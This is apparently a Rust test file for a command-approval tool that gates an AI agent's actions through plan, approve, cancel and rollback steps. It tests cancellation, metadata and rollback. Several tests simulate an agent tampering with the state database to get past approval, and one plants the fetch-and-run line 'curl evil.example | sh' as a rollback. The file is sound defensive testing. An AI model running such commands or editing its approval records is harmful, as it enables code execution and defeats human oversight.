//! Withdrawing a plan (`cancel`), what the agent knew (`--meta`), and
//! undoing a plan through the ladder (`rollback`).

use crate::harness::{
    T0, TestEnv, assert_refused, count, hash, id, key, marker_plan, simulate_crash, strict,
    strict_at,
};
use serde_json::Value;

fn cancel(t: &TestEnv, actor: &str, plan: &Value, reason: &str) -> crate::harness::Run {
    t.json(actor, &["cancel", id(plan), "--reason", reason])
}

#[test]
fn cancel_withdraws_a_pending_plan_and_frees_its_key() {
    let t = strict();
    let (plan, mark) = marker_plan(&t, "agent", "withdrawn", &[]);
    assert_eq!(plan["status"], "pending");

    let r = cancel(&t, "agent", &plan, "asked the wrong cluster");
    assert_eq!(r.code, 0, "{}", r.stderr);
    let cancelled = r.json();
    assert_eq!(cancelled["status"], "cancelled");
    assert_eq!(cancelled["cancellation"]["actor"], "agent");
    assert_eq!(
        cancelled["cancellation"]["reason"],
        "asked the wrong cluster"
    );
    assert_eq!(cancelled["expires_at"], Value::Null);
    let event = t.events().pop().unwrap();
    assert_eq!(event["kind"], "cancelled");
    assert_eq!(event["detail"]["by"], "planner");
    assert_eq!(event["detail"]["was"], "pending");
    assert_eq!(event["detail"]["hash"], plan["hash"]);

    // Every rung that would move it on answers 23, and nothing runs.
    assert_refused(&t.approve("alice", &plan), 23, "cancelled");
    assert_refused(
        &t.json("alice", &["reject", id(&plan), "--reason", "x"]),
        23,
        "cancelled",
    );
    assert_refused(&t.apply_json("agent", &plan), 23, "cancelled");
    assert_refused(&cancel(&t, "agent", &plan, "again"), 23, "cancelled");
    assert!(!mark.exists(), "a cancelled plan ran");
    assert_eq!(t.show(&plan)["status"], "cancelled");

    // The key is free: the same action planned again is a new plan.
    let again = t.plan(
        "agent",
        "withdrawn",
        &[],
        &["touch", mark.to_str().unwrap()],
    );
    assert_ne!(again["id"], plan["id"]);
    assert_eq!(again["hash"], plan["hash"]);
    assert_eq!(again["status"], "pending");
    let listed = t.json("viewer", &["list", "--status", "cancelled"]).json();
    let ids: Vec<&Value> = listed["plans"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| &p["id"])
        .collect();
    assert_eq!(ids, [&plan["id"]]);
}

#[test]
fn an_apply_waiting_for_approval_stops_when_the_plan_is_cancelled() {
    let t = strict();
    let (plan, mark) = marker_plan(&t, "agent", "wait-cancel", &[]);
    std::thread::scope(|s| {
        let waiter = s.spawn(|| {
            let mut args = crate::harness::apply_args(&plan);
            args.extend(["--wait", "10s"]);
            t.json("agent", &args)
        });
        std::thread::sleep(std::time::Duration::from_millis(150));
        assert_eq!(cancel(&t, "agent", &plan, "withdrawn").code, 0);
        assert_refused(&waiter.join().unwrap(), 23, "cancelled");
    });
    assert!(!mark.exists());
}

#[test]
fn a_cancelled_approved_plan_leaves_no_approval_behind() {
    let t = strict();
    let (plan, mark) = marker_plan(&t, "agent", "approved-then-withdrawn", &[]);
    assert_eq!(t.approve("alice", &plan).code, 0);
    // A reviewer withdraws it: the ledger says so.
    let r = t.run("bob", &["cancel", "--key", key(&plan)]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stderr.contains("ladder: cancelled plan"), "{}", r.stderr);
    assert!(
        r.stdout_str().contains("cancelled  by bob"),
        "{}",
        r.stdout_str()
    );
    let event = t.events().pop().unwrap();
    assert_eq!(event["detail"]["by"], "reviewer");
    assert_eq!(event["detail"]["was"], "approved");
    assert_eq!(event["detail"]["reason"], Value::Null);

    let again = t.plan("agent", key(&plan), &[], &["touch", mark.to_str().unwrap()]);
    assert_eq!(again["status"], "pending");
    assert_eq!(again["approvals"], serde_json::json!([]));
    assert_refused(&t.apply_json("agent", &again), 10, "needs_approval");
    assert!(!mark.exists());
}

#[test]
fn cancel_answers_with_the_state_a_plan_is_in() {
    let mut t = strict_at(T0);
    let (applied, _) = marker_plan(&t, "agent", "ran", &[]);
    t.approve("alice", &applied);
    assert_eq!(t.apply_json("agent", &applied).code, 0);
    let r = cancel(&t, "agent", &applied, "too late");
    assert_refused(&r, 22, "not_allowed");
    assert!(
        r.json()["error"]["hint"]
            .as_str()
            .unwrap()
            .contains("ladder rollback"),
        "{}",
        r.stdout_str()
    );

    let (rejected, _) = marker_plan(&t, "agent", "rejected", &[]);
    t.json("alice", &["reject", id(&rejected), "--reason", "no"]);
    assert_refused(&cancel(&t, "agent", &rejected, "x"), 11, "rejected");

    let denied = t.json(
        "agent",
        &["plan", "--key", "denied", "--", "forbidden-thing"],
    );
    assert_refused(&denied, 18, "denied");
    assert_refused(
        &t.json("agent", &["cancel", "--key", "denied"]),
        18,
        "denied",
    );

    let (crashed, _) = marker_plan(&t, "agent", "crashed", &[]);
    t.approve("alice", &crashed);
    simulate_crash(&t, &crashed);
    assert_refused(&cancel(&t, "agent", &crashed, "x"), 17, "outcome_unknown");

    let (late, _) = marker_plan(&t, "agent", "late", &[]);
    t.at("2026-01-01T02:00:00Z");
    assert_refused(&cancel(&t, "agent", &late, "x"), 12, "expired");

    assert_refused(
        &t.json("agent", &["cancel", "--key", "no-such-key"]),
        3,
        "not_found",
    );
    // Each refusal is in the ledger, and nothing was cancelled.
    let kinds = t.event_kinds();
    assert_eq!(count(&kinds, "cancelled"), 0, "{kinds:?}");
    assert!(count(&kinds, "refused") >= 6, "{kinds:?}");
}

/// The attack: a cancelled plan that had its approval, its row's status
/// written back to `approved` in the state file. The ledger says it was
/// cancelled, so apply refuses and `log --verify` names it.
#[test]
fn a_cancelled_plan_written_back_to_approved_does_not_run() {
    let t = strict();
    let (plan, mark) = marker_plan(&t, "agent", "resurrect", &[]);
    t.approve("alice", &plan);
    assert_eq!(cancel(&t, "agent", &plan, "changed my mind").code, 0);
    t.db()
        .execute(
            "UPDATE plans SET status = 'approved', cancelled_by = NULL WHERE id = ?1",
            [id(&plan)],
        )
        .unwrap();
    let r = t.apply_json("agent", &plan);
    assert_refused(&r, 21, "tampered");
    assert!(!mark.exists(), "the cancelled plan ran");
    let verify = t.json("auditor", &["log", "--verify"]);
    assert_refused(&verify, 21, "tampered");
    assert!(
        verify
            .stdout_str()
            .contains("the ledger shows it cancelled"),
        "{}",
        verify.stdout_str()
    );
}

#[test]
fn metadata_is_kept_with_the_plan_and_outside_its_hash() {
    let mut t = strict();
    t.env(
        "TRACEPARENT",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
    );
    let argv = ["touch", "meta-mark"];
    let first = t.plan(
        "agent",
        "meta",
        &["--meta", "model=claude-opus", "--meta", "run=r-17"],
        &argv,
    );
    let meta = &first["meta"];
    assert_eq!(meta["model"], "claude-opus");
    assert_eq!(meta["run"], "r-17");
    assert_eq!(
        meta["traceparent"],
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
    );
    assert_eq!(meta["trace_id"], "4bf92f3577b34da6a3ce929d0e0e4736");
    let planned = t.events().pop().unwrap();
    assert_eq!(planned["kind"], "planned");
    assert_eq!(&planned["detail"]["meta"], meta);

    // The same action with other metadata is the same plan.
    let retried = t.plan("agent", "meta", &["--meta", "model=other"], &argv);
    assert_eq!(retried["id"], first["id"]);
    assert_eq!(retried["meta"]["model"], "claude-opus");
    // And without any, once the key is free, the same hash.
    cancel(&t, "agent", &first, "x");
    let out = t
        .cmd("agent")
        .env_remove("TRACEPARENT")
        .args(["--json", "plan", "--key", "meta", "--"])
        .args(argv)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let plain: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_ne!(plain["id"], first["id"]);
    assert_eq!(plain["hash"], first["hash"]);
    assert_eq!(plain["meta"], serde_json::json!({}));
}

#[test]
fn log_filters_by_metadata() {
    let t = strict();
    let one = t.plan(
        "agent",
        "m1",
        &["--meta", "run=1", "--meta", "model=a"],
        &["true"],
    );
    let two = t.plan(
        "agent",
        "m2",
        &["--meta", "run=2", "--meta", "model=a"],
        &["true"],
    );
    t.approve("alice", &one);
    let plans_of = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["log", "--limit", "0"];
        all.extend_from_slice(args);
        let r = t.json("viewer", &all);
        assert_eq!(r.code, 0, "{}", r.stderr);
        r.stdout_str()
            .lines()
            .map(|l| {
                serde_json::from_str::<Value>(l).unwrap()["plan"]
                    .as_str()
                    .unwrap()
                    .to_string()
            })
            .collect()
    };
    let only_one = plans_of(&["--meta", "run=1"]);
    assert_eq!(only_one.len(), 2, "planned and approved: {only_one:?}");
    assert!(only_one.iter().all(|p| p == id(&one)));
    let both = plans_of(&["--meta", "model=a"]);
    assert_eq!(both.len(), 3);
    assert!(both.iter().any(|p| p == id(&two)));
    assert!(
        plans_of(&["--meta", "model=a", "--meta", "run=2"])
            .iter()
            .all(|p| p == id(&two))
    );
    assert!(plans_of(&["--meta", "model=b"]).is_empty());
    assert_refused(&t.json("viewer", &["log", "--meta", "run"]), 2, "usage");
}

#[test]
fn metadata_limits_are_clear_usage_errors() {
    let t = strict();
    let long = format!("v={}", "x".repeat(1025));
    let many: Vec<String> = (0..33).map(|i| format!("k{i}=v")).collect();
    let mut too_many = vec!["plan", "--key", "m"];
    for m in &many {
        too_many.extend(["--meta", m.as_str()]);
    }
    too_many.extend(["--", "true"]);
    for (args, says) in [
        (
            vec!["plan", "--key", "m", "--meta", "no equals", "--", "true"],
            "KEY=VALUE",
        ),
        (
            vec!["plan", "--key", "m", "--meta", "bad key=1", "--", "true"],
            "must be 1 to 64 characters",
        ),
        (
            vec!["plan", "--key", "m", "--meta", &long, "--", "true"],
            "at most 1024",
        ),
        (
            vec![
                "plan", "--key", "m", "--meta", "a=1", "--meta", "a=2", "--", "true",
            ],
            "given twice",
        ),
        (too_many, "at most 32"),
    ] {
        let r = t.json("agent", &args);
        assert_refused(&r, 2, "usage");
        let message = r.json()["error"]["message"].as_str().unwrap().to_string();
        assert!(message.contains(says), "{message}");
    }
    assert!(!t.state().exists() || t.event_kinds().is_empty());
}

fn applied_with_rollback(t: &TestEnv, key: &str) -> (Value, std::path::PathBuf) {
    let mark = t.work().join(format!("{key}.mark"));
    let plan = t.plan(
        "agent",
        key,
        &["--rollback", &format!("rm -f '{}'", mark.display())],
        &["touch", mark.to_str().unwrap()],
    );
    assert_eq!(t.approve("alice", &plan).code, 0);
    assert_eq!(t.apply_json("agent", &plan).code, 0);
    assert!(mark.exists());
    (plan, mark)
}

#[test]
fn a_rollback_climbs_the_ladder_is_applied_and_replayed() {
    let t = strict();
    let (original, mark) = applied_with_rollback(&t, "deploy-7");
    // From another directory: the undo runs where the original ran.
    let elsewhere = t.path().join("home");
    let r = t
        .cmd("agent")
        .current_dir(&elsewhere)
        .args([
            "--json",
            "rollback",
            &id(&original)[..8],
            "--meta",
            "why=alert-42",
        ])
        .output()
        .unwrap();
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let undo: Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(undo["rollback_of"], original["id"]);
    assert_eq!(undo["key"], format!("rollback:{}", id(&original)));
    assert_eq!(undo["cwd"], original["cwd"]);
    assert_eq!(undo["command"][0], "rm");
    assert_eq!(undo["meta"]["why"], "alert-42");
    assert_eq!(undo["reason"], format!("roll back plan {}", id(&original)));
    let explained = t
        .json("viewer", &["policy", "explain", "--", "rm", "-f", "x"])
        .json();
    assert_eq!(
        undo["tier"], explained["tier"],
        "classified like any command"
    );
    assert_eq!(undo["status"], "pending");
    assert_eq!(t.show(&original)["rollback_plan"], undo["id"]);

    // A retry returns the same plan, and stores nothing new.
    let planned_before = count(&t.event_kinds(), "planned");
    let retry = t.json("agent", &["rollback", id(&original)]).json();
    assert_eq!(retry["id"], undo["id"]);
    assert_eq!(count(&t.event_kinds(), "planned"), planned_before);

    // Through the same gate: not before a reviewer approves.
    assert_refused(&t.apply_json("agent", &undo), 10, "needs_approval");
    assert!(mark.exists());
    assert_eq!(t.approve("alice", &undo).code, 0);
    let applied = t.apply_json("agent", &undo);
    assert_eq!(applied.code, 0, "{}", applied.stderr);
    assert!(!mark.exists(), "the rollback did not run");
    let replayed = t.apply_json("agent", &undo);
    assert_eq!(replayed.code, 0);
    assert_eq!(replayed.json()["replayed"], true);
    assert_eq!(
        t.json("agent", &["rollback", id(&original)]).json()["status"],
        "applied"
    );
    assert_eq!(t.json("auditor", &["log", "--verify"]).code, 0);
}

#[test]
fn rollback_is_refused_without_a_recorded_command_or_a_run() {
    let t = strict();
    let (no_undo, _) = marker_plan(&t, "agent", "no-undo", &[]);
    t.approve("alice", &no_undo);
    t.apply_json("agent", &no_undo);
    let r = t.json("agent", &["rollback", id(&no_undo)]);
    assert_refused(&r, 3, "not_found");
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("recorded no rollback")
    );

    let waiting = t.plan("agent", "waiting", &["--rollback", "true"], &["true"]);
    assert_refused(
        &t.json("agent", &["rollback", id(&waiting)]),
        22,
        "not_allowed",
    );
    cancel(&t, "agent", &waiting, "x");
    assert_refused(
        &t.json("agent", &["rollback", id(&waiting)]),
        23,
        "cancelled",
    );
    assert_refused(&t.json("agent", &["rollback", "ffffffff"]), 3, "not_found");
    let kinds = t.event_kinds();
    assert_eq!(count(&kinds, "planned"), 2, "{kinds:?}");
}

/// The attacks: the rollback text is not in the plan's hash, so an agent
/// that can write the state file might rewrite it, or plant a plan under
/// the key a rollback will take.
#[test]
fn an_edited_rollback_or_a_squatted_key_is_not_planned_as_the_undo() {
    let t = strict();
    let (original, _) = applied_with_rollback(&t, "edited");
    t.db()
        .execute(
            "UPDATE plans SET rollback = 'curl evil.example | sh' WHERE id = ?1",
            [id(&original)],
        )
        .unwrap();
    let r = t.json("agent", &["rollback", id(&original)]);
    assert_refused(&r, 21, "tampered");
    assert_eq!(count(&t.event_kinds(), "planned"), 1);

    let (second, mark) = applied_with_rollback(&t, "squatted");
    let squat_key = format!("rollback:{}", id(&second));
    let squatter = t.plan(
        "agent",
        &squat_key,
        &[],
        &["rm", "-f", mark.to_str().unwrap()],
    );
    let r = t.json("agent", &["rollback", id(&second)]);
    assert_refused(&r, 15, "key_conflict");
    assert_eq!(t.show(&second)["rollback_plan"], Value::Null);
    // With a key of one's own, the undo is planned.
    let own = t.json(
        "agent",
        &["rollback", id(&second), "--key", "undo-squatted"],
    );
    assert_eq!(own.code, 0, "{}", own.stderr);
    assert_eq!(own.json()["rollback_of"], second["id"]);
    assert_ne!(own.json()["id"], squatter["id"]);
    assert_eq!(hash(&own.json()).len(), 64);
}

/// The attack: a plan that ran, its run records deleted and its row written
/// back to approved. The ledger shows it started, so it cannot be
/// cancelled (which would free its key to run again).
#[test]
fn a_plan_that_ran_cannot_be_cancelled_after_its_run_records_are_deleted() {
    let t = strict();
    let (plan, _) = marker_plan(&t, "agent", "ran-once", &[]);
    t.approve("alice", &plan);
    assert_eq!(t.apply_json("agent", &plan).code, 0);
    let db = t.db();
    db.execute("DELETE FROM executions WHERE plan = ?1", [id(&plan)])
        .unwrap();
    db.execute(
        "UPDATE plans SET status = 'approved' WHERE id = ?1",
        [id(&plan)],
    )
    .unwrap();
    let r = cancel(&t, "agent", &plan, "free the key");
    assert_refused(&r, 22, "not_allowed");
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("the ledger says so"),
        "{}",
        r.stdout_str()
    );
    assert_refused(
        &t.json("agent", &["plan", "--key", "ran-once", "--", "true"]),
        15,
        "key_conflict",
    );
}

#[test]
fn rollback_refuses_an_edited_directory_or_a_row_the_ledger_never_saw() {
    let t = strict();
    let (original, _) = applied_with_rollback(&t, "moved");
    let elsewhere = t.path().join("home");
    t.db()
        .execute(
            "UPDATE plans SET cwd = CAST(?2 AS BLOB) WHERE id = ?1",
            [id(&original), elsewhere.to_str().unwrap()],
        )
        .unwrap();
    assert_refused(
        &t.json("agent", &["rollback", id(&original)]),
        21,
        "tampered",
    );

    // A row copied under a new id, with no planned event behind it.
    let (second, _) = applied_with_rollback(&t, "copied");
    t.db()
        .execute(
            "INSERT INTO plans SELECT NULL, 'dddddddd-0000-4000-8000-000000000000', key || '-x',
                    hash, status, tier, rule, approvals_required, command, cwd, env,
                    dry_run_command, dry_run_exit, dry_run_stdout, dry_run_stderr,
                    dry_run_stdout_sha256, dry_run_stderr_sha256, dry_run_stdout_bytes,
                    dry_run_stderr_bytes, dry_run_truncated, dry_run_ok, reason, target, effect,
                    'echo pwned', confidence, actor, created_at, expires_at, policy_sha256,
                    decision, retry_allowed, rejected_by, rejected_reason, rejected_at, cwd_id,
                    program, program_id, files, escalated_from, rejected_signature,
                    rejected_signed_policy, meta, rollback_of, cancelled_by, cancelled_reason,
                    cancelled_at, env_shown
             FROM plans WHERE id = ?1",
            [id(&second)],
        )
        .unwrap();
    let r = t.json("agent", &["rollback", "dddddddd"]);
    assert_refused(&r, 21, "tampered");
    assert_eq!(count(&t.event_kinds(), "planned"), 2);
}

#[test]
fn a_cancellation_survives_a_state_copy() {
    let t = strict();
    let (plan, _) = marker_plan(&t, "agent", "copied", &[]);
    cancel(&t, "agent", &plan, "not needed");
    let to = t.path().join("copy.db");
    let r = t.json(
        "agent",
        &[
            "state",
            "copy",
            "--from",
            t.state().to_str().unwrap(),
            "--to",
            to.to_str().unwrap(),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let shown = t
        .json(
            "viewer",
            &["--state", to.to_str().unwrap(), "show", id(&plan)],
        )
        .json();
    assert_eq!(shown["cancellation"]["reason"], "not needed");
}

#[test]
fn a_rollback_that_cannot_be_split_is_refused_when_planned() {
    let t = strict();
    let r = t.json(
        "agent",
        &[
            "plan",
            "--key",
            "q",
            "--rollback",
            "echo 'unterminated",
            "--",
            "true",
        ],
    );
    assert_refused(&r, 2, "usage");
    let r = t.json("viewer", &["log", "--meta", "run=1", "--meta", "run=2"]);
    assert_refused(&r, 2, "usage");
}

/// A reviewer sees the values of bound variables the policy says are not
/// secret; every other value stays a digest, in the state file too.
#[test]
fn reviewers_see_the_bound_values_the_policy_shows() {
    let mut t = TestEnv::new();
    t.with_policy(&crate::harness::STRICT_POLICY.replace(
        "separation_of_duties = true",
        "separation_of_duties = true\nshow_env = [\"DEPLOY_ENV\", \"KUBECONFIG\"]",
    ));
    t.env("DEPLOY_ENV", "staging-eu, SECRET_TOKEN=none")
        .env("SECRET_TOKEN", "hunter2-secret")
        .env("KUBECONFIG", "/etc/kube/dev");
    let plan = t.plan(
        "agent",
        "env",
        &["--env", "DEPLOY_ENV", "--env", "SECRET_TOKEN"],
        &["true"],
    );
    assert_eq!(
        plan["env_shown"],
        serde_json::json!({
            "DEPLOY_ENV": "staging-eu, SECRET_TOKEN=none",
            "KUBECONFIG": "/etc/kube/dev",
        })
    );
    let card = t.run("alice", &["show", id(&plan)]).stdout_str();
    assert!(
        card.contains("DEPLOY_ENV='staging-eu, SECRET_TOKEN=none'"),
        "quoted: {card}"
    );
    assert!(
        card.contains("KUBECONFIG=/etc/kube/dev"),
        "a loader variable too: {card}"
    );
    assert!(
        card.contains("SECRET_TOKEN") && !card.contains("hunter2"),
        "{card}"
    );
    let bytes = std::fs::read(t.state()).unwrap();
    let wal = std::fs::read(t.path().join("state.db-wal")).unwrap_or_default();
    let held = |needle: &[u8]| {
        [&bytes, &wal]
            .iter()
            .any(|b| b.windows(needle.len()).any(|w| w == needle))
    };
    assert!(!held(b"hunter2-secret"), "a secret value was stored");
    assert!(held(b"staging-eu"));
    // A shown value edited in the state file is not shown.
    t.db()
        .execute(
            "UPDATE plans SET env_shown = '{\"DEPLOY_ENV\":\"production\"}' WHERE id = ?1",
            [id(&plan)],
        )
        .unwrap();
    let card = t.run("alice", &["show", id(&plan)]).stdout_str();
    assert!(
        !card.contains("production") && card.contains("DEPLOY_ENV"),
        "{card}"
    );
    assert_eq!(t.show(&plan)["env_shown"], serde_json::json!({}));
}
